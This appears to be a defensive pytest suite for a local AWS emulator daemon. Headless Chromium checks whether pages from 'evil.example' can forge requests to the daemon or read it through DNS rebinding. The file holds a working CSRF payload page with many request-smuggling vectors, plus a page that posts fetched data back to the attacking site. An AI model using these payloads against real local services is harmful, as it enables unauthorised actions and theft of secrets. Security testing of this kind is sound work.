"""If these fail, a page in a real browser (Debian's Chromium) reads, changes or runs what a daemon in open mode holds, or cannot call a
function URL that lets it. The same page is shown to a server of the test first: a browser that sends nothing proves nothing."""

import http.server
import os
import queue as queues
import shutil
import signal
import subprocess
import tempfile
import threading
import urllib.parse

import pytest

from packages import make_zip
from watched_daemon import Function

CHROMIUM = shutil.which("chromium")
ACCOUNT = "000000000000"
SECONDS = 90
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="chromium is not installed: apt-get install chromium")

# Every way in which a page sends requests without being asked; BASE is replaced. Tells its own server when all have been tried.
ATTACK = """<!doctype html><body><script>
const base = "BASE", send = base + "/000000000000/browser?Action=SendMessage&Version=2012-11-05&MessageBody=";
const invoke = (how) => base + "/2015-03-31/functions/browsed/invocations?how=" + how;
const presigned = "&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=000000000000%2F20260131%2Fus-east-1%2Fsqs%2Faws4_request&X-Amz-Date=20260131T120000Z" +
  "&X-Amz-SignedHeaders=host&X-Amz-Signature=00";
const tries = [];
const attempt = (name, start) => tries.push(new Promise((done) => { try { Promise.resolve(start(done)).then(() => {}, () => {}); } catch (error) { done(); } setTimeout(done, 4000); }));
const element = (name, fields) => (done) => { const one = Object.assign(document.createElement(name), fields); one.onload = one.onerror = done; document.body.append(one); };
attempt("img", element("img", { src: send + "img" }));
attempt("img presigned", element("img", { src: send + "presigned" + presigned }));
attempt("img no referrer", element("img", { referrerPolicy: "no-referrer", src: send + "noreferrer" }));
attempt("script", element("script", { src: send + "script" }));
attempt("style", element("link", { rel: "stylesheet", href: send + "style" }));
attempt("frame", element("iframe", { src: send + "frame" }));
attempt("prefetch", element("link", { rel: "prefetch", href: send + "prefetch" }));
const form = (how, enctype, action, sandbox) => (done) => {
  const frame = document.createElement("iframe");
  frame.onload = () => setTimeout(done, 300);
  const page = `<form method=post enctype="${enctype}" action="${action}"><input name="{&quot;a" value="&quot;:1}"></form><script>document.forms[0].submit()</scr` + "ipt>";
  if (sandbox) frame.sandbox = "allow-forms allow-scripts";
  frame.srcdoc = page;
  document.body.append(frame);
};
attempt("form", form("form", "application/x-www-form-urlencoded", send + "form"));
attempt("form text", form("text", "text/plain", invoke("formtext")));
attempt("form multipart", form("multipart", "multipart/form-data", invoke("formmultipart")));
attempt("form sandboxed", form("sandboxed", "text/plain", invoke("formsandboxed"), true));
attempt("form with a password", form("password", "text/plain", invoke("formpassword").replace("://", "://test:test@")));
const post = (how, more) => async (done) => { try { await fetch(invoke(how), { method: "POST", mode: "no-cors", body: "{}", ...more }); } finally { done(); } };
attempt("fetch", post("fetch", {}));
attempt("fetch without a type", post("fetchblob", { body: new Blob(["{}"]) }));
attempt("fetch without a referrer", post("fetchnoreferrer", { referrerPolicy: "no-referrer" }));
attempt("fetch keepalive", post("fetchkeepalive", { keepalive: true }));
attempt("fetch json", post("fetchjson", { mode: "cors", headers: { "Content-Type": "application/json" } }));
attempt("fetch signed", post("fetchsigned", { mode: "cors", headers: { Authorization: "AWS4-HMAC-SHA256 Credential=a/20260131/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=0" } }));
const redirected = (how, more) => async (done) => {
  try { await fetch("/redirect?to=" + encodeURIComponent(invoke(how)), { method: "POST", body: "{}", ...more }); } finally { done(); }
};
attempt("redirect", redirected("redirected", { mode: "no-cors" }));
attempt("redirect with fields", redirected("redirectedfields", { headers: { "Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "AmazonSQS.SendMessage" } }));
attempt("reset", async (done) => { try { await fetch(base + "/_mayfly/reset", { method: "POST", mode: "no-cors" }); } finally { done(); } });
attempt("create", async (done) => { try { await fetch(base + "/2015-03-31/functions", { method: "POST", mode: "no-cors", body: '{"FunctionName":"made"}' }); } finally { done(); } });
attempt("beacon", (done) => { navigator.sendBeacon(invoke("beacon"), "{}"); setTimeout(done, 500); });
attempt("ping", (done) => { const a = Object.assign(document.createElement("a"), { href: "#x", ping: invoke("ping") }); document.body.append(a); a.click(); setTimeout(done, 500); });
attempt("websocket", (done) => { const s = new WebSocket(base.replace("http", "ws") + "/2015-03-31/functions"); s.onerror = s.onopen = done; });
Promise.all(tries).then(() => fetch("/report", { method: "POST", body: "done" }));
</script>"""

READ = """<!doctype html><script>
fetch("URL", { method: "POST", body: "x" }).then((answer) => answer.text(), (error) => "refused: " + error)
  .then((text) => fetch("/report", { method: "POST", body: text }));
</script>"""


class Site(object):
    """A web server that shows one page, and keeps what else it is asked for."""

    def __init__(self, page=""):
        site, self.page, self.reports, self.seen = self, page, queues.Queue(), []

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == "/report":
                    site.reports.put(body.decode())
                elif self.path not in ("/", "/favicon.ico"):
                    site.seen.append((self.command, self.path, dict(self.headers.items())))
                page = site.page.encode() if self.path == "/" else b""
                there = self.path.startswith("/redirect?") and urllib.parse.parse_qs(self.path.partition("?")[2])["to"][0]
                self.send_response(307 if there else 200)
                if there:
                    self.send_header("Location", there)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_GET = do_POST = do_OPTIONS = answer

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *error):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


class Browser(object):
    """A headless Chromium at one address; every name below .example is this machine."""

    def __init__(self, folder, address, *arguments):
        self.scratch = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)  # the browser's sockets are there, whose paths have to be short
        self.process = subprocess.Popen(
            [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server", "--disable-background-networking", f"--user-data-dir={folder}",
             "--host-resolver-rules=MAP *.example 127.0.0.1", *arguments, address],
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, start_new_session=True, env={**os.environ, "HOME": str(folder), "TMPDIR": self.scratch.name})

    def __enter__(self):
        return self

    def __exit__(self, *error):
        try:
            os.killpg(self.process.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        self.process.stdout.close()
        self.process.wait()
        self.scratch.cleanup()

    def text(self):
        return self.process.communicate(timeout=SECONDS)[0].decode()


def visit(tmp_path, site):
    with Browser(tmp_path / "profile", f"http://evil.example:{site.port}/"):
        return site.reports.get(timeout=SECONDS)


@pytest.fixture(scope="module")
def held(daemon):
    """(queue client, queue URL, function) that pages would like to have."""
    sqs = daemon.client("sqs")
    function = Function.create(daemon.account(), "browsed", make_zip({"function.py": "def handler(event, context):\n    print('RAN', event)\n    return 1\n"}),
                               Environment={"Variables": {"PASSWORD": "hunter2"}})
    return sqs, sqs.create_queue(QueueName="browser")["QueueUrl"], function


def test_the_instrument_works(tmp_path):
    """The page's requests do not leave the browser, so that nothing is shown by their not arriving."""
    with Site() as target, Site(ATTACK.replace("BASE", f"http://127.0.0.1:{target.port}")) as site:
        assert visit(tmp_path, site) == "done"
        seen = {path.rpartition("=")[2] if "how=" in path else urllib.parse.parse_qs(path.partition("?")[2]).get("MessageBody", [path])[0] for _, path, _ in target.seen}
    for way in ("img", "presigned", "noreferrer", "script", "style", "frame", "form", "formtext", "formmultipart", "formsandboxed", "fetch", "fetchblob", "fetchnoreferrer", "fetchkeepalive",
                "fetchjson", "fetchsigned", "redirected", "redirectedfields", "beacon", "ping", "/_mayfly/reset"):
        assert way in seen, (way, seen)


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "rebound.example"])
def test_a_page_changes_and_runs_nothing(daemon, held, tmp_path, name):
    """Whatever a page sends to the daemon, by its address or by a name that leads there."""
    sqs, url, function = held
    with Site(ATTACK.replace("BASE", f"http://{name}:{daemon.port}")) as site:
        assert visit(tmp_path, site) == "done"
    assert "Messages" not in sqs.receive_message(QueueUrl=url), "a message came"
    assert b"RAN" not in daemon.send("GET", "/_mayfly/logs?function=browsed").body, "the function ran"
    assert {one["FunctionName"] for one in daemon.account().list_functions()["Functions"]} >= {"browsed"}
    assert "made" not in {one["FunctionName"] for one in daemon.account().list_functions()["Functions"]}


def test_a_rebound_name_shows_nothing(daemon, held, tmp_path):
    """What a page of a name that now leads here would read."""
    for target in ("/2015-03-31/functions", "/2015-03-31/functions/browsed/configuration", "/_mayfly/logs?function=browsed", "/_mayfly/status"):
        with Browser(tmp_path / "profile", f"http://rebound.example:{daemon.port}{target}", "--dump-dom") as browser:
            text = browser.text()
        assert "hunter2" not in text and "uptime" not in text and "--allowed-host" in text, text
    with Browser(tmp_path / "profile", f"http://localhost:{daemon.port}/2015-03-31/functions", "--dump-dom") as browser:
        assert "hunter2" in browser.text(), "somebody who writes the daemon's own address"


def test_a_page_calls_a_function_url_that_lets_it(daemon, held, tmp_path):
    """Function URLs are of no use to pages, or of use to all of them."""
    aws = daemon.account()
    with Site() as site:
        origin = f"http://evil.example:{site.port}"
        for name, allowed in (("lets", origin), ("does-not", "https://shop.example")):
            Function.create(aws, name, make_zip({"function.py": "def handler(event, context):\n    return 'answer'\n"}))
            url = aws.create_function_url_config(FunctionName=name, AuthType="NONE", Cors={"AllowOrigins": [allowed], "AllowMethods": ["*"]})["FunctionUrl"]
            for action, more in (("lambda:InvokeFunctionUrl", {"FunctionUrlAuthType": "NONE"}), ("lambda:InvokeFunction", {"InvokedViaFunctionUrl": True})):
                aws.add_permission(FunctionName=name, StatementId=action.replace(":", "-"), Action=action, Principal="*", **more)
            site.page = READ.replace("URL", url)
            said = visit(tmp_path / name, site)
            assert (said == "answer") == (name == "lets"), said
